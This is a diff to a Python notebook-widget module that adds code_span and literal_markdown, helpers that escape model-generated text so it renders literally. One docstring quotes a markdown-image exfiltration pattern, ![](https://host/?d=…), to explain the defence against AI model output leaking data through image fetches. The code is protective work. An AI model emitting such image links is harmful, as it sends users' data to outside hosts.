@@ -34,7 +34,8 @@ import anywidget
 import traitlets
 
 __all__ = ["STATIC_DIR", "ErrorReply", "Lang", "NetaWidget", "OkReply", "Reply", "RequestError",
-           "RequestHandler", "escape_markdown", "fenced", "handles", "html_card"]
+           "RequestHandler", "code_span", "escape_markdown", "fenced", "handles", "html_card",
+           "literal_markdown"]
 
 log = logging.getLogger(__name__)
 
@@ -149,11 +150,28 @@ def fenced(text: str, info: str = "") -> str:
     return f"{fence}{info}\n{text}\n{fence}"
 
 
+def code_span(text: str) -> str:
+    """``text`` as an inline code span that no backtick run inside it can close."""
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    ticks = "`" * (longest + 1)
+    pad = " " if text.startswith("`") or text.endswith("`") else ""
+    return f"{ticks}{pad}{text}{pad}{ticks}"
+
+
 def escape_markdown(text: str) -> str:
     """Text that renders literally inside markdown: markdown punctuation is backslashed and
     HTML special characters become entities (so raw HTML in model text stays text)."""
     escaped = "".join(f"\\{ch}" if ch in "\\`*_{}[]()#+-.!|~>" else ch for ch in text)
     return escaped.replace("&", "&amp;").replace("<", "&lt;")
+
+
+def literal_markdown(text: str) -> str:
+    """Multi-line text that renders literally, its line breaks kept (hard breaks).
+
+    Static viewers (GitHub, nbconvert, a notebook reopened without widget state) may not
+    sanitize markdown, and even those that do load its images: model text written as live
+    markdown there would fetch ``![](https://host/?d=…)`` on sight."""
+    return "  \n".join(escape_markdown(line) for line in text.splitlines())
 
 
 class NetaWidget(anywidget.AnyWidget):
